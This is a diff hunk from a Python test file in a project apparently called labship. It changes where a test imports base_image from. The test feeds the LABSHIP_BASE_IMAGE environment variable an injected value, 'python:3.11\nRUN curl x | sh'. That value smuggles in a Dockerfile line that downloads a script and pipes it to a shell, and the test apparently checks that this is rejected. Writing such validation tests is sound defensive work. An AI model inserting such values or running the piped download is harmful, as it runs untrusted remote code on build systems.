@@ -866,8 +866,8 @@ def test_no_value_injects_into_the_compose_files(base: Base, tmp_path: Path) -> 
 
 def test_the_base_image_from_the_environment_is_checked_too(base: Base) -> None:
     from labship.errors import ConfigError
+    from labship.images.base import base_image
     from labship.project import load_project
-    from labship.targets.image import base_image
 
     project = load_project(base.root)
     os.environ["LABSHIP_BASE_IMAGE"] = "python:3.11\nRUN curl x | sh"
